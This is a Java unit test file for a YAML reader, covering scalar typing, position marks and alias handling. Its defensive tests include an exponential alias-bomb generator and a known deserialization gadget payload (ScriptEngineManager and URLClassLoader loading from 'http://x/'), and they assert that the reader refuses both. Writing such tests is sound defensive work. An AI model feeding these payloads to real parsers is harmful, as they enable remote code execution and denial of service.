package dev.sluice.pipeline.yaml;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.Test;

class YamlReaderTest {
    private final List<String> faults = new ArrayList<>();

    private YamlNode read(String yaml) {
        return Objects.requireNonNullElse(
                YamlReader.read(yaml, (mark, what, mend) -> faults.add(mark.line() + ":" + mark.column() + " " + what)),
                new YamlList(List.of(), new Mark(0, 0)));
    }

    @Test
    void plainScalarsFollowTheCoreSchema() {
        assertThat(
                        read("[no, on, 1, -2, 1.50, 1e3, true, ~, null, 2024-01-02, 0x1F, '1', 12345678901234567890, N/A, -]")
                                .toJava())
                .isEqualTo(Arrays.asList(
                        "no",
                        "on",
                        1L,
                        -2L,
                        new BigDecimal("1.50"),
                        new BigDecimal("1e3"),
                        true,
                        null,
                        null,
                        "2024-01-02",
                        "0x1F",
                        "1",
                        new BigInteger("12345678901234567890"),
                        "N/A",
                        "-"));
        assertThat(faults).isEmpty();
    }

    @Test
    void everythingKnowsItsPlace() {
        YamlMap map = (YamlMap) read("a: 1\nb:\n  - 'x'\n");

        assertThat(map.keyMark("b")).isEqualTo(new Mark(2, 1));
        YamlList list = (YamlList) Objects.requireNonNull(map.get("b"));
        YamlScalar scalar = (YamlScalar) list.items().get(0);
        assertThat(scalar.mark()).isEqualTo(new Mark(3, 5));
        assertThat(scalar.textMark()).isEqualTo(new Mark(3, 6));
    }

    @Test
    void aliasesAreValues() {
        assertThat(read("a: &x {b: 1}\nc: *x\n").toJava())
                .isEqualTo(Map.of("a", Map.of("b", 1L), "c", Map.of("b", 1L)));
    }

    @Test
    void aliasesDoNotExplode() {
        read(bomb(20));
        read(bomb(5));

        assertThat(faults)
                .satisfiesExactly(fault -> assertThat(fault).contains("Number of aliases"), fault -> assertThat(fault)
                        .contains("more than 50000 values"));
    }

    /** Each level holds the one before it ten times. */
    private static String bomb(int levels) {
        StringBuilder bomb = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < levels; i++) {
            bomb.append("a").append(i).append(": &a").append(i).append(" [");
            bomb.append(("*a" + (i - 1) + ", ").repeat(9))
                    .append("*a")
                    .append(i - 1)
                    .append("]\n");
        }
        return bomb.toString();
    }

    @Test
    void anAliasThatContainsItselfIsRefused() {
        read("a: &a [*a]\n");

        assertThat(faults).hasSize(1);
    }

    @Test
    void depthAndSizeAreBounded() {
        read("[".repeat(10_000) + "]".repeat(10_000));
        read("a: " + "x".repeat(2_000_000));

        assertThat(faults).hasSize(2);
    }

    @Test
    void tagsMakeNoObjects() {
        read("a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x/']]]]\n");

        assertThat(faults).singleElement().asString().contains("Global tag is not allowed");
    }
}
